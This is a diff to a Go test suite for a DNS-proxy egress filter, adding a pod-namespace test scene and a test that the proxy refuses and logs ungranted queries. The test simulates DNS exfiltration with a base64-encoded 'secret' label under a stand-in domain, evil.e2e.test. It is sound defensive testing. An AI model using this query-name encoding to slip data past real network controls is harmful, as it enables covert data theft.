@@ -25,6 +25,13 @@ type dnsScene struct {
 }
 
 func newDNSScene(t *testing.T, proxy string) *dnsScene {
+	return newDNSSceneWith(t, proxy, false)
+}
+
+// newDNSSceneWith is newDNSScene; pods: the DNS server listens at port 53 of our side of the
+// first host's veth pair (reached from the host's namespace, where the test's pod agent lives),
+// and the agent is granted it (as a pod is its cluster's DNS server).
+func newDNSSceneWith(t *testing.T, proxy string, pods bool) *dnsScene {
 	s := &dnsScene{h1: privtest.NewHost(t), h2: privtest.NewHost(t)}
 	p1, _ := tcpPort(t, s.h1)
 	p2, _ := tcpPort(t, s.h2)
@@ -32,24 +39,79 @@ func newDNSScene(t *testing.T, proxy string) *dnsScene {
 	s.svc1 = netip.AddrPortFrom(s.h1.V4, p1).String()
 	s.svc2 = netip.AddrPortFrom(s.h2.V4, p2svc).String()
 	s.wild2 = netip.AddrPortFrom(s.h2.V4, p2).String()
-	s.dns = dnstest.Start(t)
+	egress := []any{
+		map[string]any{"fqdn": "svc.e2e.test", "ports": []int{int(p1), int(p2svc)}, "protocol": "tcp"},
+		map[string]any{"fqdn": "*.wild.e2e.test", "ports": []int{int(p2)}, "protocol": "tcp"},
+	}
+	if pods {
+		s.dns = dnstest.StartAt(t, netip.AddrPortFrom(s.h1.Ours4, 53))
+		for _, proto := range []string{"udp", "tcp"} {
+			egress = append(egress, map[string]any{"cidr": s.h1.Ours4.String() + "/32", "ports": []int{53}, "protocol": proto})
+		}
+	} else {
+		s.dns = dnstest.Start(t)
+	}
 	s.dns.Set("svc.e2e.test", 0, s.h1.V4) // TTL 0: the proxy keeps no answer, each query asks
 	s.dns.Set("a.wild.e2e.test", 0, s.h2.V4)
 	s.dns.Set("evil.e2e.test", 0, s.h2.V4)
+	s.dns.Set("c2VjcmV0.evil.e2e.test", 0, s.h2.V4)
 	self := privtest.AgentBinary(t)
-	s.d = newTetherd(t, profile{
-		"egress": []any{
-			map[string]any{"fqdn": "svc.e2e.test", "ports": []int{int(p1), int(p2svc)}, "protocol": "tcp"},
-			map[string]any{"fqdn": "*.wild.e2e.test", "ports": []int{int(p2)}, "protocol": "tcp"},
-		},
-		"exec": []string{self},
-	})
+	s.d = newTetherd(t, profile{"egress": egress, "exec": []string{self}})
 	s.d.extra = fmt.Sprintf("dns:\n  server: %s\n  proxy:\n    enabled: true\n    deny_dot: true\n    state_file: %s\n%s",
 		s.dns.Addr, filepath.Join(s.d.dir, "dns-state.json"), proxy)
 	s.d.writeConfig()
 	s.d.start()
 	s.cg = s.d.sleeper()
 	return s
+}
+
+// TestPrivilegedDNSProxyPods: an agent in another network namespace (a pod's) whose policy
+// grants it its DNS server. The attack first: without the proxy's remote addresses its DNS goes
+// to that server as sent, data in query names included. With them (tetherd restarted, as a
+// configuration change needs), the same query is the proxy's and refused, unseen by the server;
+// a granted name is answered (UDP, and TCP with EDNS0 through an IPv6 resolver address) as from
+// the resolver the agent asked, and its answer is granted.
+func TestPrivilegedDNSProxyPods(t *testing.T) {
+	s := newDNSSceneWith(t, "", true)
+	d, cg, pod := s.d, s.cg, s.h1
+	const secret = "c2VjcmV0.evil.e2e.test"
+	asked := s.dns.Queries()
+	a := privtest.AskDNSIn(t, pod, cg, "udp", s.dns.Addr, secret, "A", false)
+	if a.Rcode != "NOERROR" || s.dns.Queries() == asked {
+		t.Fatalf("negative control: without remote addresses a pod's DNS should reach its server unfiltered; got %+v, %d queries", a, s.dns.Queries()-asked)
+	}
+
+	d.kill9()
+	d.extra += fmt.Sprintf("    remote_addresses: [%q, %q]\n", pod.Ours4, pod.Ours6)
+	d.writeConfig()
+	d.start()
+	asked = s.dns.Queries()
+	for _, network := range []string{"udp", "tcp"} {
+		a = privtest.AskDNSIn(t, pod, cg, network, s.dns.Addr, secret, "A", false)
+		if a.Rcode != "REFUSED" || a.From != s.dns.Addr {
+			t.Errorf("an ungranted name from the pod over %s: %+v, want REFUSED from %s", network, a, s.dns.Addr)
+		}
+	}
+	if n := s.dns.Queries() - asked; n != 0 {
+		t.Errorf("the server got %d queries for an ungranted name from the pod", n)
+	}
+	if got := privtest.DialIn(t, pod, cg, "tcp", s.svc1); !slices.Equal(got, []string{"eperm"}) {
+		t.Fatalf("before any query, svc.e2e.test's address from the pod: %v, want eperm", got)
+	}
+	a = privtest.AskDNSIn(t, pod, cg, "udp", "192.0.2.53:53", "svc.e2e.test", "A", false)
+	if a.Rcode != "NOERROR" || !slices.Equal(a.Answers, []string{s.h1.V4.String()}) || a.From != "192.0.2.53:53" {
+		t.Fatalf("svc.e2e.test over UDP from 192.0.2.53, in the pod: %+v", a)
+	}
+	if got := privtest.DialIn(t, pod, cg, "tcp", s.svc1); !slices.Equal(got, []string{"ok"}) {
+		t.Fatalf("svc.e2e.test's answered address from the pod: %v", got)
+	}
+	a = privtest.AskDNSIn(t, pod, cg, "tcp", "[2001:db8::53]:53", "svc.e2e.test", "A", true)
+	if a.Rcode != "NOERROR" || !slices.Equal(a.Answers, []string{s.h1.V4.String()}) || a.From != "[2001:db8::53]:53" || !a.EDNS {
+		t.Fatalf("svc.e2e.test over TCP (EDNS0) from [2001:db8::53], in the pod: %+v", a)
+	}
+	d.decision("a dns record of the pod's refused query", func(r events.Decision) bool {
+		return r.Kind == events.KindDNS && r.DNS != nil && r.DNS.Name == secret && r.Verdict == events.VerdictDeny && r.SpiffeID == agentID
+	})
 }
 
 // TestPrivilegedDNSProxy: an agent's DNS goes to tetherd's proxy whatever resolver it asks, over
